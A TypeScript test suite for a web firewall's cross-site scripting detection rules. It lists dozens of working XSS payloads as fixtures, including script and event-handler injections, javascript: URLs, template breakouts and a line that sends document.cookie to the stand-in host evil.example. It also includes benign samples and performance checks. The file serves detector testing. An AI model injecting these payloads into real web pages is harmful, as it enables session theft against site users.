import { test } from 'node:test';
import assert from 'node:assert/strict';
import { rules } from './xss.ts';
import { scanHtml, scanJsBreakout, schemeAt, isScriptUrl } from './xss-scan.ts';
import { applyChain } from '../transforms.ts';
import type { PartRule } from '../types.ts';

/** Rule ids of the paranoia-1 XSS rules that fire on a (parser-decoded) value, run as the engine does. */
function fired(value: string, paranoia = 1): string[] {
  const out: string[] = [];
  for (const r of rules as readonly PartRule[]) {
    if (r.paranoia > paranoia) continue;
    if (r.transforms.some((c) => r.match(applyChain(value, c), { loc: { kind: 'query', name: 'q' }, value }, undefined as never) !== null)) out.push(r.id);
  }
  return out;
}

test('executable markup is detected', () => {
  const attacks = [
    '<script>alert(1)</script>', '<ScRiPt src=//x.example/a.js>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>',
    '<body onload=alert(1)>', '<iframe src="javascript:alert(1)">', '<a href=" jav&#x09;ascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">', '<object data="data:text/html;base64,PHNjcmlwdD4=">', '<embed src=//x.example/x.swf>',
    '<base href="//evil.example/">', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go', '<div style="width:expression(alert(1))">', '<x onxxx=alert(1)>',
    '<details open ontoggle=alert(1)>', '<svg><animate attributeName=href values=javascript:alert(1) />',
    '&lt;img src=x onerror=alert(1)&gt;', '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e', '<img src=x onerror=alert(1)',
    '<iframe srcdoc="<script>alert(1)</script>">', '"><img src=x onerror=prompt(1)>', '<style>@import "//evil.example/x.css";</style>',
    '%3Cscript%3Ealert(1)%3C/script%3E', '<svg>', '</script><script>alert(1)</script>',
  ];
  for (const a of attacks) assert.ok(fired(a).length > 0, `missed: ${a}`);
});

test('script URLs, attribute injection and JS-context breakouts are detected', () => {
  const attacks = [
    'javascript:alert(document.domain)', '  JaVaScRiPt:alert(1)', 'java\nscript:alert(1)', 'data:text/html,<b>x', 'vbscript:msgbox(1)',
    '" onmouseover="alert(1)', "' autofocus onfocus=alert(1) x='", '";alert(1)//', "'-alert(1)-'", '\\";alert(1);//',
    "'}alert(1);{'", '"+confirm`1`+"', '${alert(1)}', '`${eval(atob("YWxlcnQoMSk="))}`', "{{constructor.constructor('alert(1)')()}}",
    "';top['al'+'ert'](1)//", 'x";document.location="//evil.example/?"+document.cookie;//', "alert(1)", 'onmouseover',
    "&#x3C;", '\\u003c',
  ];
  for (const a of attacks) assert.ok(fired(a).length > 0, `missed: ${a}`);
});

test('benign text and markup do not trigger at paranoia 1', () => {
  const benign = [
    '<p>Message</p>', '<your x509 certificate>', '<b>bold</b> and <i>italic</i>', '<a href="https://example.com/docs">docs</a>',
    '`<div>` is a block element', 'Use `alert()` sparingly in code reviews', '${org.name}: your verification code is ${code}',
    'a < b and c > d', '<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><style>body{width:600px}</style></head><body><table><tr><td>x</td></tr></table></body></html>',
    "O'Brien said \"hello\" to everyone", 'learn javascript: the good parts', 'See https://example.com/a?b=c&d=e#frag',
    'Price: 5 < 10', '**bold** _markdown_ [link](https://example.com)', 'if (a) { b(); }', 'online=true', 'one="two"',
    '<div class="note" onboarding>', 'The event onclick fires when…', "It's \"quoted\" — fine", '<o:OfficeDocumentSettings><o:AllowPNG/></o:OfficeDocumentSettings>',
    '<!--[if (gte mso 9)|(IE)]><xml><o:x/></xml><![endif]-->', 'event.target.?[type eq "UserGroup"].size()>0', '<', '&amp;',
  ];
  for (const b of benign) assert.deepEqual(fired(b), [], `false positive: ${b}`);
});

test('paranoia 2 adds risky elements and bare sink calls', () => {
  assert.deepEqual(fired('<form method=post>', 1), []);
  assert.ok(fired('<form method=post>', 2).includes('941320'));
  assert.ok(fired('x = eval(y)', 2).includes('941390'));
});

test('scheme reading tolerates controls and entities, bounded', () => {
  assert.equal(isScriptUrl(schemeAt('\u0001 j\ta\nv\rascript:x', 0)), 'javascript:');
  assert.equal(isScriptUrl(schemeAt('feed:javascript:alert(1)', 0)), 'javascript:');
  assert.equal(isScriptUrl(schemeAt('https://x', 0)), null);
});

test('linear time on 64 KiB pathological input', () => {
  const inputs = ['<'.repeat(65536), '<a '.repeat(21845), '<a b="'.repeat(10922), "'".repeat(65536), '${'.repeat(32768), '{{'.repeat(32768), 'on'.repeat(32768), 'on='.repeat(21845), '"on'.repeat(21845), '&#'.repeat(32768), 'javascript:'.repeat(5957), '<svg '.repeat(13107), '";'.repeat(32768), '<style>'.repeat(9362)];
  for (const s of inputs) {
    const t0 = performance.now();
    scanHtml(s);
    scanJsBreakout(s);
    fired(s, 4);
    const ms = performance.now() - t0;
    assert.ok(ms < 2000, `${JSON.stringify(s.slice(0, 8))}: ${ms} ms`);
  }
});
